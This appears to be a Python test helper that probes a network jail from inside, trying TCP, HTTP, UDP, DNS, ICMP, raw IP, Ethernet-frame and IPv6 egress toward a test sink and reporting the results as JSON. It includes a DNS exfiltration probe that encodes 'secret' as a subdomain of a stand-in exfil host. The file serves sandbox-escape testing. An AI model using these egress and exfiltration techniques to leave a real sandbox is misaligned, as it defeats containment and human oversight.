"""Every way out of a strong jail that the escape tests try; prints what happened as JSON.

Run inside a jail (as the jailed command, or by a test as root with all capabilities via
`ip netns exec`). It aims only at the sink (203.0.113.9, a fake 198.18.x.y address, both
routed into the tests' own sink namespace) and at the jail's own gateway and resolver.
Usage: escape.py SINK_IP [--attacker] [--gateway-port N]  (UDP to the gateway; 9999)
"""

from __future__ import annotations

import json
import socket
import struct
import sys

SINK = sys.argv[1]
ATTACKER = "--attacker" in sys.argv
GATEWAY_PORT = int(sys.argv[sys.argv.index("--gateway-port") + 1]) if "--gateway-port" in sys.argv else 9999
results: dict[str, str] = {}


def attempt(name: str, fn) -> None:  # type: ignore[no-untyped-def]
    try:
        results[name] = str(fn())
    except Exception as e:  # every failure is an outcome to report
        results[name] = f"{type(e).__name__}: {e}"


def dns_query(name: str) -> bytes:
    labels = b"".join(bytes([len(p)]) + p.encode() for p in name.split("."))
    return struct.pack("!HHHHHH", 0x4242, 0x0100, 1, 0, 0, 0) + labels + b"\0\0\x01\0\x01"


def tcp(host: str, port: int) -> str:
    with socket.create_connection((host, port), timeout=3) as s:
        s.sendall(b"hello\r\n")
        s.settimeout(3)
        return f"connected, read {s.recv(100)!r}"


def http(host: str, port: int) -> str:
    with socket.create_connection((host, port), timeout=3) as s:
        s.sendall(f"GET /escape HTTP/1.1\r\nHost: {host}:{port}\r\nConnection: close\r\n\r\n".encode())
        s.settimeout(3)
        return s.recv(200).decode(errors="replace").splitlines()[0]


def udp(host: str, port: int, payload: bytes) -> str:
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as s:
        s.settimeout(2)
        s.sendto(payload, (host, port))
        try:
            data, peer = s.recvfrom(512)
        except TimeoutError:
            return "sent, no answer"
        return f"answer of {len(data)} bytes from {peer[0]}"


def icmp(host: str) -> str:
    with socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_ICMP) as s:
        packet = struct.pack("!BBHHH", 8, 0, 0xF7FD, 1, 1)  # echo request, checksum precomputed
        s.sendto(packet, (host, 0))
        return "sent"


def raw_ip_udp(host: str) -> str:
    with socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_UDP) as s:
        s.sendto(struct.pack("!HHHH", 4444, 9999, 12, 0) + b"raw!", (host, 0))
        return "sent"


def packet_frame(host: str) -> str:
    """A hand-made Ethernet frame, broadcast, carrying IPv4/UDP to `host`."""
    ifname = next(n for _, n in socket.if_nameindex() if n != "lo")
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as probe:
        probe.connect((host, 9))  # picks the source address; sends nothing
        src = socket.inet_aton(probe.getsockname()[0])
    udp_part = struct.pack("!HHHH", 4444, 9999, 12, 0) + b"pkt!"
    header = struct.pack(
        "!BBHHHBBH4s4s", 0x45, 0, 20 + len(udp_part), 1, 0, 64, 17, 0, src, socket.inet_aton(host)
    )
    total = sum(struct.unpack("!10H", header))
    while total >> 16:
        total = (total & 0xFFFF) + (total >> 16)
    header = header[:10] + struct.pack("!H", ~total & 0xFFFF) + header[12:]
    frame = b"\xff" * 6 + b"\x02\0\0\0\0\x01" + b"\x08\x00" + header + udp_part
    with socket.socket(socket.AF_PACKET, socket.SOCK_RAW) as s:
        s.bind((ifname, 0))
        s.send(frame)
    return "sent"


def ipv6(host: str) -> str:
    with socket.create_connection((host, 80), timeout=3):
        return "connected"


def gateway() -> str:
    with open("/proc/net/route") as f:
        for line in f.readlines()[1:]:
            fields = line.split()
            if fields[1] == "00000000":
                return socket.inet_ntoa(struct.pack("<L", int(fields[2], 16)))
    raise RuntimeError("no default route")


for port in (22, 80, 443, 8080):
    attempt(f"tcp {port}", lambda port=port: tcp(SINK, port))
attempt("http 8080", lambda: http(SINK, 8080))
attempt("tcp fake address 22", lambda: tcp("198.18.7.7", 22))
attempt("udp 9999", lambda: udp(SINK, 9999, b"data"))
attempt("dns to the sink", lambda: udp(SINK, 53, dns_query("c2VjcmV0.exfil.example")))
attempt("dns to the jail resolver", lambda: udp(gateway(), 53, dns_query("c2VjcmV0.exfil.example")))
attempt("udp to the gateway", lambda: udp(gateway(), GATEWAY_PORT, b"data"))
attempt("icmp", lambda: icmp(SINK))
attempt("raw ip", lambda: raw_ip_udp(SINK))
attempt("packet socket", lambda: packet_frame(SINK))
attempt("ipv6", lambda: ipv6("2001:db8::9"))
print(json.dumps(results, indent=1))
